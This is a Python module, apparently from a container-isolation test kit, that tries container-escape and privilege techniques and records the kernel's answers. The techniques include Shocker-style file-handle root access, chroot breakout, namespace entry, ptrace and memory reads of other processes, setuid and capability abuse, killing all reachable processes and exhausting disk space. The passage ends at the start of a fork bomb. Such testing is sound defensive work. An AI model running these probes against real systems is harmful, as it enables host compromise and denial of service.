"""What attacks from inside: this file's text is what Python runs in a container or in a node (see attackkit.inside).

Each function tells how the kernel answered: the name of an error, or "done". The standard library alone is needed.
Nothing here would change anything for good where it is not refused: a mode or a time is set to what it is.
"""

from __future__ import annotations

import ctypes
import errno
import fcntl
import glob
import json
import mmap
import os
import re
import signal
import socket
import stat
import struct
import subprocess
import sys
import time
import traceback

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

libc = ctypes.CDLL(None, use_errno=True)
ARM = os.uname().machine == "aarch64"
PLACES = ("/tmp", "/run", "/var", "/dev/shm")
"""Where a container may write."""


def attempt(call: Callable[..., object], *arguments: object, **options: object) -> str:
    """The name of the error that a call ends with, or "done"."""
    try:
        call(*arguments, **options)
    except OSError as error:
        return errno.errorcode.get(error.errno or 0, str(error))
    return "done"


def system_call(numbers: tuple[int, int], *arguments: object) -> int:
    """A system call by its numbers on x86-64 and arm64; what is passed is a number, or an object of ctypes."""
    words = [ctypes.c_ulong(word) if isinstance(word, int) else word for word in arguments]
    result = libc.syscall(ctypes.c_long(numbers[ARM]), *words, *[ctypes.c_ulong(0)] * (6 - len(words)))
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return int(result)


def in_a_child(call: Callable[[], bytes]) -> bytes:
    """What a call returns in a child, which may lose its way, or its rights, by it."""
    read, write = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            os.close(read)
            data = memoryview(call())
            while data:
                data = data[os.write(write, data) :]
        except BaseException:
            traceback.print_exc()
        finally:
            os._exit(0)
    os.close(write)
    with open(read, "rb") as file:
        output = file.read()
    os.waitpid(child, 0)
    return output


def apart(call: Callable[[], object]) -> str:
    """The same as `attempt`, in a child."""
    return in_a_child(lambda: attempt(call).encode()).decode()


def together(attacks: list[tuple[str, list[object]]]) -> list[object]:
    """What functions of this file return, by name and arguments, each in a child of its own; None where one failed."""
    output = (in_a_child(lambda: json.dumps(globals()[name](*shown)).encode()) for name, shown in attacks)  # noqa: B023
    return [json.loads(one or "null") for one in output]


def say(what: object) -> None:
    """Tell something at once."""
    sys.stdout.write(f"{what}\n")
    sys.stdout.flush()


def pids() -> list[int]:
    """The processes that can be seen."""
    return sorted(int(name) for name in os.listdir("/proc") if name.isdigit())


# Handles


def handles(of: list[int] | None = None) -> Iterator[str]:
    """Every name by which /proc leads to what a process holds."""
    for pid in pids() if of is None else of:
        for place in (f"/proc/{pid}", *glob.glob(f"/proc/{pid}/task/*")):
            yield from (f"{place}/{name}" for name in ("cwd", "root", "exe"))
            for folder in (f"{place}/fd", f"{place}/map_files"):
                try:
                    yield from (f"{folder}/{name}" for name in os.listdir(folder))
                except OSError:
                    continue


def mounts(of: list[int] | None = None) -> set[str]:
    """The numbers of all mounts that some processes have, or all that can be seen."""
    found: set[str] = set()
    for pid in pids() if of is None else of:
        try:
            with open(f"/proc/{pid}/mountinfo") as file:
                found |= {line.split()[0] for line in file}
        except OSError:
            continue
    return found


def mount_of(descriptor: int) -> str:
    """The number of the mount that a descriptor is on."""
    with open(f"/proc/self/fdinfo/{descriptor}") as file:
        return dict(line.split(":", 1) for line in file)["mnt_id"].strip()


def way_out(handle: str, known: set[str], markers: list[str]) -> str:
    """Where a handle leads that is outside of all that `known` mounts show, or from which a marker is read."""
    mount, way, read = look_through(handle, markers)
    return way if read or mount not in known else ""


def look_through(handle: str, markers: list[str]) -> tuple[str, str, bool]:
    """The mount that a handle leads to, in words where it does, and whether a marker is read from there."""
    nothing = ("", "", False)
    try:
        opened = os.open(handle, os.O_PATH)
    except OSError:
        return nothing
    try:
        link = os.readlink(handle)
        if re.match(r"(pipe|socket|anon_inode|net|mnt|pid|uts|ipc):|/memfd:|anon_inode", link):
            return nothing
        for marker in markers:
            if secret := climbed(opened, marker):
                return "", f"{handle} -> {link}, by which {marker} is read: {secret}", True
        return mount_of(opened), f"{handle} -> {link}, on a mount of nobody's", False
    except OSError:
        return nothing
    finally:
        os.close(opened)


def climbed(start: int, marker: str) -> str:
    """What stands in a file of the machine, looked up from as high as `..` leads."""
    here = os.dup(start)
    try:
        while True:
            above = os.open("..", os.O_PATH | os.O_DIRECTORY, dir_fd=here)
            same = os.path.samestat(os.fstat(above), os.fstat(here))
            os.close(here)
            here = above
            if same:
                break
        with open(os.open(marker.lstrip("/"), os.O_RDONLY, dir_fd=here)) as file:
            return file.read(100)
    except OSError:
        return ""
    finally:
        os.close(here)


def walk(markers: list[str]) -> list[str]:
    """Every handle of every process that leads out."""
    known = mounts()
    return [way for handle in handles() if (way := way_out(handle, known, markers))]


def astray(markers: list[str]) -> None:
    """Tell where one's own working directory is, unless in a tree of processes that one may look into."""
    open_to_all = [pid for pid in pids() if attempt(os.stat, f"/proc/{pid}/exe") == "done"]
    say(json.dumps(way_out("/proc/self/cwd", mounts(open_to_all), markers)))
    signal.pause()


def stop_newcomers(seconds: float) -> int:
    """Stop every process that comes, as soon as it is seen; how many. They go on in the end."""
    old, stopped, deadline = {*pids()}, [], time.monotonic() + seconds
    say("waiting")
    while time.monotonic() < deadline:
        for pid in (one for one in pids() if one not in old):
            if attempt(os.kill, pid, signal.SIGSTOP) == "done":
                stopped.append(pid)
                old.add(pid)
    for pid in stopped:
        attempt(os.kill, pid, signal.SIGCONT)
    return len(stopped)


def flip(seconds: float) -> None:
    """On a signal, have a terminal of one's own as standard output and the pipe that it is, in turns for a while."""
    _, terminal = os.openpty()
    pipe = os.dup(1)
    signal.signal(signal.SIGUSR1, lambda *_: None)
    signal.pause()
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for _ in range(1000):
            os.dup2(terminal, 1)
            os.dup2(pipe, 1)
    signal.pause()


def signal_all(number: int) -> None:
    """Send a signal to every other process."""
    os.kill(-1, number)


def watch(markers: list[str], seconds: float) -> dict[str, object]:
    """The same of processes that come while this one looks: how many did, and every handle of theirs that leads out."""
    known, old = mounts(), {*pids()}
    say("watching")
    deadline, seen, found = time.monotonic() + seconds, set(), set()
    while time.monotonic() < deadline:
        new = [pid for pid in pids() if pid not in old]
        seen |= {*new}
        found |= {look_through(handle, markers) for handle in handles(new)}
    # Who was started anew meanwhile has mounts of its own by now.
    known |= mounts()
    ways = sorted(way for mount, way, read in found if way and (read or mount not in known))
    return {"seen": len(seen), "ways": ways}


def read(paths: list[str]) -> dict[str, str]:
    """What comes of reading files or folders: the first bytes, the names, or why not."""
    return {path: _read(path) for path in paths}


def _read(path: str) -> str:
    try:
        if os.path.isdir(path):
            return " ".join(sorted(os.listdir(path)))
        with open(os.open(path, os.O_RDONLY | os.O_NONBLOCK), "rb") as file:
            return file.read(100).decode(errors="replace")
    except OSError as error:
        return errno.errorcode[error.errno or 0]


def change(path: str) -> dict[str, str]:
    """What can be done to a file that is somebody else's; it is as it was before also where all is done."""
    try:
        found = os.stat(path)
    except OSError as error:
        return {"stat": errno.errorcode[error.errno or 0]}
    mode, times = stat.S_IMODE(found.st_mode), (found.st_atime_ns, found.st_mtime_ns)
    answers = {
        "chmod": attempt(os.chmod, path, mode),
        "chown": attempt(os.chown, path, found.st_uid, found.st_gid),
        "utime": attempt(os.utime, path, ns=times),
        "setxattr": attempt(os.setxattr, path, "user.nslab", b"x"),
        "removexattr": attempt(os.removexattr, path, "user.nslab"),
        "open": attempt(os.open, path, os.O_RDWR),
        "append": attempt(os.open, path, os.O_WRONLY | os.O_APPEND),
        "truncate": attempt(os.truncate, path, found.st_size),
        "link": attempt(os.link, path, "/tmp/linked", follow_symlinks=True),
    }
    through = os.open(path, os.O_PATH)
    opened = os.open(path, os.O_RDONLY)
    flags = bytearray(8)
    get_flags, set_flags = 0x80086601, 0x40086602
    try:
        fcntl.ioctl(opened, get_flags, flags)
    except OSError:
        set_flags = 0
    answers |= {
        "chmod by O_PATH": attempt(os.chmod, f"/proc/self/fd/{through}", mode),
        "open by O_PATH": attempt(os.open, f"/proc/self/fd/{through}", os.O_RDWR),
        "fchmod": attempt(os.fchmod, opened, mode),
        "fchown": attempt(os.fchown, opened, found.st_uid, found.st_gid),
        "futimens": attempt(os.utime, opened, ns=times),
        "fsetxattr": attempt(os.setxattr, opened, "user.nslab", b"x"),
        "flags": attempt(fcntl.ioctl, opened, set_flags, flags) if set_flags else "EROFS",
        "open by a descriptor": attempt(os.open, f"/proc/self/fd/{opened}", os.O_RDWR),
    }
    attempt(os.utime, path, ns=times)
    return answers


def changes(paths: list[str]) -> dict[str, dict[str, str]]:
    """`change`, of some files."""
    return {path: change(path) for path in paths}


def standard_streams() -> dict[str, list[str]]:
    """What can be done to descriptors 0, 1 and 2, and what they are."""
    answers = {}
    for number in (0, 1, 2):
        found = os.fstat(number)
        kinds = {"pipe": stat.S_ISFIFO, "socket": stat.S_ISSOCK, "device": stat.S_ISCHR, "file": stat.S_ISREG}
        answers[str(number)] = [
            next((name for name, is_it in kinds.items() if is_it(found.st_mode)), "?"),
            attempt(os.fchmod, number, stat.S_IMODE(found.st_mode)),
            attempt(os.fchown, number, found.st_uid, found.st_gid),
            attempt(os.utime, number, ns=(found.st_atime_ns, found.st_mtime_ns)),
        ]
    return answers


def spoil_streams() -> list[str]:
    """Write to what stdin is, and open to all what stdin and stdout are, by way of /proc."""
    return [
        attempt(os.fchmod, 0, 0o666),
        attempt(os.fchmod, 1, 0o666),
        attempt(os.truncate, "/proc/self/fd/0", 0),
        attempt(os.truncate, "/proc/self/fd/1", 0),
        attempt(os.lseek, 0, 0, os.SEEK_END),
        attempt(fcntl.flock, 0, fcntl.LOCK_EX | fcntl.LOCK_NB),
    ]


def answer_oneself(text: str) -> list[str]:
    """Write into the pipe that one reads from."""
    return [attempt(lambda: os.write(os.open("/proc/self/fd/0", os.O_WRONLY | os.O_NONBLOCK), text.encode()))]


def descriptors() -> list[str]:
    """What a new process has open."""
    with os.scandir("/proc/self/fd") as entries:
        names = [entry.name for entry in entries]
    links = {name: os.readlink(f"/proc/self/fd/{name}") for name in names if os.path.lexists(f"/proc/self/fd/{name}")}
    return [f"{name} {link.split(':')[0]}" for name, link in sorted(links.items())]


# Files


def create_everywhere(name: str) -> dict[str, str]:
    """Make a file at every mount point."""
    with open("/proc/self/mountinfo") as file:
        points = [line.split()[4] for line in file]
    flags = os.O_WRONLY | os.O_CREAT | os.O_EXCL
    return {point: attempt(os.open, f"{point}/{name}", flags) for point in {*points} if os.path.isdir(point)}


def create_in(folders: list[str], name: str) -> dict[str, str]:
    """Make a file in each of some folders."""
    return {folder: attempt(_write_new, f"{folder}/{name}") for folder in folders if os.path.isdir(folder)}


def _write_new(path: str) -> None:
    with open(path, "x") as file:
        file.write("an attack\n")


def block_devices() -> list[str]:
    """The block devices in /dev, and of others what leads to the machine's memory or to its log."""
    found = []
    for folder, _, files in os.walk("/dev"):
        for path in (f"{folder}/{name}" for name in files):
            status = os.lstat(path)
            memory = stat.S_ISCHR(status.st_mode) and status.st_rdev in (0x101, 0x102, 0x104, 0x10B)
            if stat.S_ISBLK(status.st_mode) or memory:
                found.append(path)
    return found


def settings_of_the_kernel(written: dict[str, str]) -> dict[str, str]:
    """Which files below /proc/sys open for writing; of those of the network, what comes of writing what is there."""
    answers = {}
    for path in glob.glob("/proc/sys/**", recursive=True):
        if os.path.isfile(path) and not path.startswith("/proc/sys/net/"):
            answers[path] = for_writing(path)
    return {**answers, **{path: attempt(_write_once, path, value) for path, value in written.items()}}


def devices(wanted: dict[str, list[int]], places: list[str]) -> dict[str, list[str]]:
    """Make devices and open them: KIND MAJOR MINOR by name; the answers of each place."""
    answers = {}
    for name, (kind, major, minor) in wanted.items():
        answers[name] = []
        for place in places:
            path = f"{place}/device"
            made = attempt(os.mknod, path, kind | 0o666, os.makedev(major, minor))
            answers[name].append(attempt(os.open, path, os.O_RDONLY | os.O_NONBLOCK) if made == "done" else made)
            attempt(os.unlink, path)
    return answers


def as_user(uid: int, call: Callable[[], bytes]) -> str:
    """What a call returns in a child that is an ordinary user."""

    def drop() -> bytes:
        if os.getuid() == 0:
            os.setgroups([])
            os.setresgid(uid, uid, uid)
            os.setresuid(uid, uid, uid)
        return call()

    return in_a_child(drop).decode()


def setuid_copies() -> dict[str, str]:
    """Whom a setuid copy of `id` runs as for an ordinary user."""
    answers = {}
    for place in PLACES:
        with open("/usr/bin/id", "rb") as original, open(f"{place}/id", "wb") as copy:
            copy.write(original.read())
        os.chmod(place, 0o755)
        os.chmod(copy.name, 0o6755)
        answers[place] = as_user(1000, lambda: _output(f"{place}/id", "-u")).strip()  # noqa: B023
    return answers


def file_capabilities() -> dict[str, str]:
    """Which capabilities a copy of `cat` has that bears all of them, for an ordinary user."""
    magic, everything = 0x02000001, 0xFFFFFFFF  # VFS_CAP_REVISION_2, effective
    value = struct.pack("<5I", magic, everything, 0, everything, 0)
    answers = {}
    for place in PLACES:
        with open("/usr/bin/cat", "rb") as original, open(f"{place}/cat", "wb") as copy:
            copy.write(original.read())
        os.chmod(place, 0o755)
        os.chmod(copy.name, 0o755)
        given = attempt(os.setxattr, copy.name, "security.capability", value)
        output = as_user(1000, lambda: _output(f"{place}/cat", "/proc/self/status"))  # noqa: B023
        (has,) = re.findall("CapEff:\t(.*)", output) or ["0"]
        answers[place] = f"{given} {int(has, 16)}"
    return answers


def setuid_programs() -> dict[str, str]:
    """Which effective user this machine's own setuid programs have, run by an ordinary user: as a child sees them."""
    answers = {}
    for path in glob.glob("/usr/bin/*"):
        if os.path.isfile(path) and os.stat(path).st_mode & stat.S_ISUID:
            answers[path] = as_user(1000, lambda: _effective(path))  # noqa: B023
    return answers


def _effective(path: str) -> bytes:
    child = subprocess.Popen(
        [path, "--help"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    # Stopped or over, its credentials are those of the program that it became.
    os.waitid(os.P_PID, child.pid, os.WEXITED | os.WNOWAIT)
    with open(f"/proc/{child.pid}/status") as file:
        found = re.findall(r"Uid:\s+\d+\s+(\d+)", file.read())[0]
    child.wait()
    return str(found).encode()


def _output(*argv: str) -> bytes:
    try:
        return subprocess.run(argv, capture_output=True).stdout
    except OSError as error:
        return errno.errorcode[error.errno or 0].encode()


def chroot_and_back(markers: list[str]) -> list[str]:
    """The old way out of a chroot: go into a second one and keep a handle above it."""
    os.makedirs("/tmp/jail", exist_ok=True)
    above = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/jail")
    os.fchdir(above)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return [path for path in markers if os.path.exists(path)]


def files_by_number(paths: list[str]) -> dict[str, str]:
    """Open the root of a file system by its number, as Shocker did: a handle needs no path."""
    answers = {}
    for path in paths:
        mount = os.open(path, os.O_RDONLY)
        # struct file_handle: bytes, kind (FILEID_INO32_GEN), inode 2, any generation.
        handle = ctypes.create_string_buffer(struct.pack("<IiII", 8, 1, 2, 0))
        own = ctypes.create_string_buffer(struct.pack("<Ii", 128, 0) + bytes(128))
        number = ctypes.c_int()
        named = attempt(system_call, (303, 264), mount, b"", own, ctypes.byref(number), 0x1000)
        answers[f"{path} itself"] = attempt(system_call, (304, 265), mount, own, 0) if named == "done" else named
        answers[f"{path} root"] = attempt(system_call, (304, 265), mount, handle, os.O_RDONLY)
    return answers


def leases(paths: list[str]) -> dict[str, str]:
    """Leases of files: who has one keeps everybody else from opening the file for a while. Given back at once."""
    signal.signal(signal.SIGIO, signal.SIG_IGN)
    answers = {}
    for path in paths:
        file = os.open(path, os.O_RDONLY)
        for kind in (fcntl.F_WRLCK, fcntl.F_RDLCK):
            answers[f"{path} {kind}"] = attempt(fcntl.fcntl, file, fcntl.F_SETLEASE, kind)
            attempt(fcntl.fcntl, file, fcntl.F_SETLEASE, fcntl.F_UNLCK)
        delegate = 1024 + 16
        answers[f"{path} delegation"] = attempt(fcntl.fcntl, file, delegate, struct.pack("<IHH", 0, 1, 0))
        os.close(file)
    return answers


def sockets() -> list[str]:
    """The sockets among the files that can be seen."""
    found = []
    for folder, folders, files in os.walk("/"):
        folders[:] = [name for name in folders if f"{folder}/{name}".lstrip("/") not in ("proc", "sys", "usr")]
        found += [f"{folder}/{name}" for name in files if stat.S_ISSOCK(os.lstat(f"{folder}/{name}").st_mode)]
    return found


def writable(folder: str) -> list[str]:
    """The files below a folder that open for writing. Nothing is written."""
    return [
        f"{at}/{name}" for at, _, names in os.walk(folder) for name in names if for_writing(f"{at}/{name}") == "done"
    ]


def writable_below(folders: list[str]) -> dict[str, list[str]]:
    """The same of some folders."""
    return {folder: writable(folder) for folder in folders}


def for_writing(path: str) -> str:
    """How the kernel answers to who opens a file for writing; a link is not followed."""
    flags = os.O_WRONLY | os.O_NONBLOCK | os.O_NOCTTY | os.O_NOFOLLOW
    return attempt(lambda: os.close(os.open(path, flags)))


# The kernel


CLONE, UNSHARE, SETNS = (56, 220), (272, 97), (308, 268)
NAMESPACES = {
    "time": 1 << 7, "mnt": 1 << 17, "cgroup": 1 << 25, "uts": 1 << 26, "ipc": 1 << 27, "user": 1 << 28,
    "pid": 1 << 29, "net": 1 << 30,
}  # fmt: skip
CALLS: dict[str, tuple[tuple[int, int], tuple[object, ...]]] = {
    "mount tmpfs": ((165, 40), (b"none", b"/tmp", b"tmpfs", 0, 0)),
    "mount proc": ((165, 40), (b"proc", b"/tmp", b"proc", 0, 0)),
    "mount cgroup": ((165, 40), (b"none", b"/tmp", b"cgroup", 0, b"pids")),
    "mount bind": ((165, 40), (b"/usr", b"/tmp", 0, 4096, 0)),
    "mount move": ((165, 40), (b"/run", b"/tmp", 0, 8192, 0)),
    "remount": ((165, 40), (b"", b"/usr", 0, 32 | 4096, 0)),
    "remount proc": ((165, 40), (b"", b"/proc", 0, 32, 0)),
    "propagation": ((165, 40), (b"", b"/", 0, 1 << 20, 0)),
    "umount": ((166, 39), (b"/proc/keys", 2)),
    "umount root": ((166, 39), (b"/", 2)),
    "pivot_root": ((155, 41), (b"/tmp", b"/tmp")),
    "open_tree": ((428, 428), (-100, b"/", 1)),
    "open_tree_attr": ((467, 467), (-100, b"/", 1, 0, 0)),
    "move_mount": ((429, 429), (-100, b"/run", -100, b"/tmp", 0)),
    "fsopen": ((430, 430), (b"tmpfs", 0)),
    "fspick": ((433, 433), (-100, b"/", 0)),
    "mount_setattr": ((442, 442), (-100, b"/usr", 0, bytes(32), 32)),
    "clone3": ((435, 435), (0, 0)),
    "keyctl": ((250, 219), (0, -3, 0)),
    "join a keyring": ((250, 219), (1, 0)),
    "add_key": ((248, 217), (b"user", b"nslab-attack", b"x", 1, -2)),
    "request_key": ((249, 218), (b"user", b"nslab-attack", 0, 0)),
    "io_uring_setup": ((425, 425), (4, bytes(120))),
    "bpf": ((321, 280), (0, bytes(128), 128)),
    "perf_event_open": ((298, 241), (struct.pack("<II", 1, 128) + bytes(120), 0, -1, -1, 0)),
    "userfaultfd": ((323, 282), (1,)),
    "fanotify_init": ((300, 262), (0, 0)),
    "fanotify_init by name": ((300, 262), (0x200, 0)),
    "syslog read": ((103, 116), (3, ctypes.create_string_buffer(4096), 4096)),
    "syslog size": ((103, 116), (10, 0, 0)),
    "init_module": ((175, 105), (b"", 0, b"")),
    "finit_module": ((313, 273), (-1, b"", 0)),
    "delete_module": ((176, 106), (b"nslab_none", 0)),
    "kexec_load": ((246, 104), (0, 0, 0, 0)),
    "reboot": ((169, 142), (0, 0, 0, 0)),
    "swapon": ((167, 224), (b"/tmp/none", 0)),
    "swapoff": ((168, 225), (b"/tmp/none",)),
    "acct": ((163, 89), (b"/tmp/none",)),
    "quotactl": ((179, 60), (0, 0, 0, 0)),
    "sethostname": ((170, 161), (b"attack", 6)),
    "setdomainname": ((171, 162), (b"attack", 6)),
    "settimeofday": ((164, 170), (struct.pack("qq", int(time.time()), 0), 0)),
    "clock_settime": ((227, 112), (0, struct.pack("qq", int(time.time()), 0))),
    "vhangup": ((153, 58), ()),
    "mbind": ((237, 235), (0, 0, 0, 0, 0, 0)),
    "move_pages": ((279, 239), (1, 0, 0, 0, 0, 0)),
    "lookup_dcookie": ((212, 18), (0, 0, 0)),
    "nice": ((141, 140), (0, 0, -20)),
    "open_by_handle_at": ((304, 265), (-100, bytes(16), 0)),
}
"""Calls that would change or look into the machine, with arguments that do no harm if they are made."""


def calls(names: list[str]) -> dict[str, str]:
    """How the kernel answers `CALLS`."""
    return {name: apart(lambda: system_call(CALLS[name][0], *CALLS[name][1])) for name in names}  # noqa: B023


def new_namespaces() -> dict[str, str]:
    """Make namespaces, in both ways that there are."""

    def clone(flag: int) -> None:
        if system_call(CLONE, flag | signal.SIGCHLD) == 0:
            os._exit(0)

    return {
        **{f"unshare {name}": apart(lambda: system_call(UNSHARE, flag)) for name, flag in NAMESPACES.items()},  # noqa: B023
        **{f"clone {name}": apart(lambda: clone(flag)) for name, flag in NAMESPACES.items() if name != "time"},  # noqa: B023
    }


def enter_namespaces() -> dict[str, str]:
    """Go into every namespace of every process, one's own among them."""
    answers = {}
    for path in glob.glob("/proc/[0-9]*/ns/*"):
        answers[path] = apart(lambda: system_call(SETNS, os.open(path, os.O_RDONLY), 0))  # noqa: B023
    for pid in pids():
        answers[str(pid)] = apart(lambda: system_call(SETNS, os.pidfd_open(pid), NAMESPACES["mnt"]))  # noqa: B023
    return answers


def look_into(names: list[str]) -> dict[str, dict[str, str]]:
    """What can be had of processes: by ptrace, memory, descriptors; by the name that `ps` shows."""
    answers = {}
    for pid in pids():
        with open(f"/proc/{pid}/cmdline") as file:
            name = file.read().replace("\0", " ").split(" ")[0]
        if name in names:
            answers[name] = {**_traced(pid), **{part: _read(f"/proc/{pid}/{part}") for part in PARTS}}
    return answers


PARTS = ("environ", "fd", "fdinfo", "map_files", "maps", "mem", "auxv", "stack", "syscall", "pagemap", "io", "cwd/.",
         "root/.", "smaps", "personality", "timers")  # fmt: skip
"""What /proc shows of a process to who may trace it."""


def _traced(pid: int) -> dict[str, str]:
    """What can be done to a process to which one must have more rights than it has."""
    attach, seize, detach = 16, 0x4206, 17
    buffer = ctypes.create_string_buffer(8)
    local, remote = (ctypes.c_ulong * 2)(ctypes.addressof(buffer), 8), (ctypes.c_ulong * 2)(0x10000, 8)

    def trace(how: int) -> None:
        system_call((101, 117), how, pid, 0, 0)
        system_call((101, 117), detach, pid, 0, 0)

    return {
        "attach": apart(lambda: trace(attach)),
        "seize": apart(lambda: trace(seize)),
        "process_vm_readv": attempt(system_call, (310, 270), pid, local, 1, remote, 1, 0),
        "process_vm_writev": attempt(system_call, (311, 271), pid, local, 1, remote, 1, 0),
        "pidfd_getfd": attempt(lambda: system_call((438, 438), os.pidfd_open(pid), 0, 0)),
        "process_madvise": attempt(lambda: system_call((440, 440), os.pidfd_open(pid), remote, 1, 20, 0)),
        "kcmp": attempt(system_call, (312, 272), os.getpid(), pid, 0, 0, 0),
        "get_robust_list": attempt(system_call, (274, 100), pid, bytes(8), bytes(8)),
        "open its memory": attempt(os.open, f"/proc/{pid}/mem", os.O_RDWR),
        "namespace by pidfd": attempt(lambda: fcntl.ioctl(os.pidfd_open(pid), 0xFF03)),
        "move_pages": attempt(system_call, (279, 239), pid, 0, 0, 0, 0, 0),
    }


def kill_everybody() -> None:
    """Kill what can be killed, by all and by number."""
    attempt(os.kill, -1, signal.SIGKILL)
    for pid in range(2, 70_000):
        if pid != os.getpid():
            attempt(os.kill, pid, signal.SIGKILL)


def reachable() -> dict[str, list[int]]:
    """The processes to which a signal can be sent or of which there is a pidfd, and those that /proc shows."""
    found = [pid for pid in range(1, 70_000) if attempt(os.kill, pid, 0) != "ESRCH"]
    return {"by kill": found, "by /proc": pids()}


def open_sockets(wanted: dict[str, list[int]]) -> dict[str, str]:
    """Sockets of families: FAMILY KIND by name, or FAMILY KIND PROTOCOL."""
    return {name: attempt(system_call, (41, 198), *which) for name, which in wanted.items()}


def connect(names: list[str]) -> dict[str, str]:
    """Connect to abstract sockets, as streams and as datagrams."""
    kinds = (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET)
    return {
        f"{name} {kind}": attempt(socket.socket(socket.AF_UNIX, kind).connect, f"\0{name}")
        for name in names
        for kind in kinds
    }


def unix_sockets() -> list[str]:
    """The sockets with a name that the network namespace has."""
    with open("/proc/net/unix") as file:
        return [fields[7] for line in file.readlines()[1:] if len(fields := line.split()) > 7]


def shared_memory(key: int) -> dict[str, str]:
    """Segments, queues and semaphores that somebody made on the machine."""
    with open("/proc/sysvipc/shm") as file:
        seen = [line.split()[0] for line in file.readlines()[1:]]
    return {
        "shmget": attempt(system_call, (29, 194), key, 0, 0),
        "msgget": attempt(system_call, (68, 186), key, 0),
        "semget": attempt(system_call, (64, 190), key, 0, 0),
        "seen": " ".join(seen),
    }


def settings(pid: str = "self") -> dict[str, str]:
    """What the kernel says of a process: its rights, limits and control groups."""
    with open(f"/proc/{pid}/status") as file:
        status = dict(line.rstrip("\n").split(":\t", 1) for line in file if ":\t" in line)
    with open(f"/proc/{pid}/limits") as file:
        limits = {line[:26].strip(): " ".join(line[26:].split()[:2]) for line in file}
    with open(f"/proc/{pid}/cgroup") as file:
        groups = file.read()
    wanted = ("Uid", "Gid", "Groups", "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp",
              "Seccomp_filters", "Umask")  # fmt: skip
    return {**{name: status[name].strip() for name in wanted}, **limits, "groups": groups}


def namespaces_and_names(paths: list[str]) -> dict[str, object]:
    """The namespaces that this runs in, and which of some paths are there."""
    kinds = ("net", "pid", "ipc", "uts", "mnt")
    numbers = {kind: os.readlink(f"/proc/self/ns/{kind}") for kind in kinds}
    return {"namespaces": numbers, "there": [path for path in paths if os.path.lexists(path)]}


def terminal_tricks() -> dict[str, str]:
    """What a terminal of one's own could do to the machine's."""
    _, slave = os.openpty()
    console, linux = 0x541D, 0x541C
    return {
        "TIOCCONS": attempt(fcntl.ioctl, slave, console),
        "TIOCLINUX": attempt(fcntl.ioctl, slave, linux, b"\2"),
        "open the console": attempt(os.open, "/dev/console", os.O_WRONLY),
        "open a virtual terminal": attempt(os.open, "/dev/tty1", os.O_WRONLY),
        "open kmsg": attempt(os.open, "/dev/kmsg", os.O_WRONLY),
        "of the machine": " ".join(sorted(os.listdir("/dev/pts"))),
    }


def network_rights() -> dict[str, str]:
    """What a process without the rights of a network's administrator may not do."""
    uevents, audit = 15, 9
    fake = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, uevents)
    return {
        "send a device's event": attempt(fake.sendto, b"add@/devices/fake\0ACTION=add\0", (0, 2)),
        "audit": attempt(socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, audit).bind, (0, 1)),
        "a link": _status("ip", "link", "add", "attack0", "type", "dummy"),
        "an address": _status("ip", "address", "add", "10.99.99.99/32", "dev", "lo"),
        "rules": _status("nft", "add", "table", "attack"),
        "a tunnel": attempt(os.open, "/dev/net/tun", os.O_RDWR),
    }


def _status(*argv: str) -> str:
    try:
        return "done" if subprocess.run(argv, capture_output=True).returncode == 0 else "refused"
    except OSError as error:
        return errno.errorcode[error.errno or 0]


def other_mounts() -> dict[str, str]:
    """Ask for the mounts of another mount namespace than one's own by its number (statmount, listmount)."""
    room = ctypes.create_string_buffer(4096)
    answers = {}
    for namespace in range(1, 4):
        request = struct.pack("<IIQQQ", 32, 0, 0xFFFFFFFFFFFFFFFF, 0, namespace)
        answers[f"listmount {namespace}"] = attempt(system_call, (458, 458), request, room, 512, 0)
        request = struct.pack("<IIQQQ", 32, 0, 1, 0xFFFF, namespace)
        answers[f"statmount {namespace}"] = attempt(system_call, (457, 457), request, room, 4096, 0)
    return answers


def raise_limits() -> dict[str, str]:
    """Have more than the limits say."""
    import resource

    def more(which: int) -> None:
        limit = resource.getrlimit(which)[1] + 1
        system_call((160, 164), which, struct.pack("QQ", limit, limit))

    kinds = {"nofile": resource.RLIMIT_NOFILE, "core": resource.RLIMIT_CORE, "memlock": resource.RLIMIT_MEMLOCK,
             "rtprio": resource.RLIMIT_RTPRIO, "nice": resource.RLIMIT_NICE}  # fmt: skip
    priority = os.sched_param(1)
    return {
        **{name: attempt(more, which) for name, which in kinds.items()},
        "real time": attempt(os.sched_setscheduler, 0, os.SCHED_FIFO, priority),
        "priority": attempt(os.setpriority, os.PRIO_PROCESS, 0, -10),
        "oom_score_adj": attempt(_write_once, "/proc/self/oom_score_adj", "-900"),
        "lock all memory": attempt(_locked, 64 << 20),
        "own group": attempt(os.mkdir, "/sys/fs/cgroup/attack"),
    }


def _write_once(path: str, text: str) -> None:
    with open(path, "w") as file:
        file.write(text)


def _locked(size: int) -> None:
    area = mmap.mmap(-1, size)
    address = ctypes.addressof(ctypes.c_char.from_buffer(area))
    system_call((149, 228), address, size)


# Limits


def fill(place: str, most: int) -> dict[str, object]:
    """How many bytes a place takes, and what the kernel said then; `most` at most. All is removed again."""
    path, piece, written, answer = f"{place}/filled", bytes(1 << 20), 0, "done"
    with open(path, "wb", buffering=0) as file:
        while written < most and answer == "done":
            answer = attempt(file.write, piece)
            written = os.fstat(file.fileno()).st_size
    os.unlink(path)
    return {"had": written, "answer": answer}


def fill_with_files(place: str, most: int) -> dict[str, object]:
    """How many files a place takes, and what the kernel said then; `most` at most."""
    folder, made, answer = f"{place}/many", 0, "done"
    os.mkdir(folder)
    while made < most and answer == "done":
        answer = attempt(os.mknod, f"{folder}/{made}")
        made += answer == "done"
    for name in os.listdir(folder):
        os.unlink(f"{folder}/{name}")
    os.rmdir(folder)
    return {"had": made, "answer": answer}


def open_files(most: int) -> dict[str, object]:
    """How many files a process can have open; `most` at most."""
    held, answer = 3, "done"
    while held < most and answer == "done":
        answer = attempt(os.open, "/dev/null", os.O_RDONLY)
        held += answer == "done"
    return {"had": held, "answer": answer}


def fork_bomb(most: int) -> dict[str, object]:
